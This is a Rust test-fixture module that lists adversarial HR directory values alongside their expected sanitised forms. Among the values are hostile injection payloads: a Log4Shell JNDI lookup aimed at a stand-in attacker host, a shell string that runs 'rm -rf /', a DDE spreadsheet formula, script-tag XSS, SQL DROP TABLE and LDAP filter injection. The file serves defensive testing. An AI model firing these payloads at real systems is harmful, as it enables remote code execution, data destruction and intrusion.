//! What HR can hold. Beside each text stands what is left of it after the documented cleaning: composed characters, no
//! blanks at the ends, line ends and tabs as blanks, nothing invisible or turning the direction of reading.

/// A text, and what of it may arrive.
#[derive(Clone, Debug)]
pub struct Text {
    /// As HR has it.
    pub raw: String,
    /// As it arrives.
    pub clean: String,
}

/// Arrives as it is.
const LITERAL: [&str; 37] = [
    // Distinguished names (RFC 4514) and what looks like one.
    "Smith, John",
    "a+b=c;d<e>f",
    "#hash",
    "#0401ff",
    "back\\slash",
    "\\2c\\20",
    "quo\"ted\"",
    "OU=Leavers",
    "CN=x,OU=Staff,DC=corp,DC=example",
    "x\\0ADEL:0b0b0b0b-0000-0000-0000-000000000000",
    "name/with/slashes",
    // Filters (RFC 4515).
    "*",
    "(objectClass=*)",
    "x)(|(uid=*))",
    "\\2a\\28\\29\\00",
    "&|!~=",
    // Templates, formats, shells and formulas.
    "{{ last_name }}",
    "{% if 1 %}x{% endif %}{# gone #}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%x %(name)s {0} {sn}",
    "$(reboot) `id` && rm -rf /",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<script>alert(1)</script>&amp;",
    "[click](http://evil.example) ![x](http://evil.example/y) | **bold** `code`",
    "'; DROP TABLE links; --",
    // Names of what is there.
    "Domain Admins",
    "GG-Sales",
    "svc-rosterd",
    "Administrator",
    // Letters of the world, and what is no letter.
    "李小龍",
    "محمد علي",
    "שלום",
    "🦀🚀 emoji",
    "Zalgo Z͖̍a͔̎l̫g̛o",
    "ﬁne Ⅷ ｗｉｄｅ",
    "  inner   blanks  ",
];

/// Arrives cleaned.
const CLEANED: [(&str, &str); 12] = [
    ("nul\0in\0side", "nulinside"),
    ("\u{1b}[31mred\u{1b}[0m\u{7}", "[31mred[0m"),
    (
        "line\nFORGED create everybody",
        "line FORGED create everybody",
    ),
    ("line\r\nFORGED\tcell", "line  FORGED cell"),
    ("c1\u{85}FORGED\u{9b}31m", "c1FORGED31m"),
    ("user\u{202e}gpj.exe\u{202c}", "usergpj.exe"),
    ("\u{2066}isolated\u{2069}", "isolated"),
    ("zero\u{200b}width\u{200d}joined\u{feff}", "zerowidthjoined"),
    ("\u{200f}right-to-left mark", "right-to-left mark"),
    ("decomposed u\u{308}o\u{308}", "decomposed üö"),
    ("\u{a0}no-break blank\u{a0}", "no-break blank"),
    ("\u{7f}\u{0}\u{1b}", ""),
];

/// Ten thousand characters, plain and of two bytes each.
const LONG: usize = 10_000;

/// Every text.
pub fn all() -> Vec<Text> {
    let literal = LITERAL.iter().map(|text| (*text, text.trim()));
    let known = literal.chain(CLEANED);
    let known = known.map(|(raw, clean)| Text {
        raw: raw.to_owned(),
        clean: clean.to_owned(),
    });
    let long = ["x", "ü", "🦀"].map(|letter| Text {
        raw: letter.repeat(LONG),
        clean: letter.repeat(LONG),
    });
    known.chain(long).collect()
}

/// What must not be seen raw anywhere: it moves the cursor, begins a line or turns the direction of reading.
pub fn acts(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}
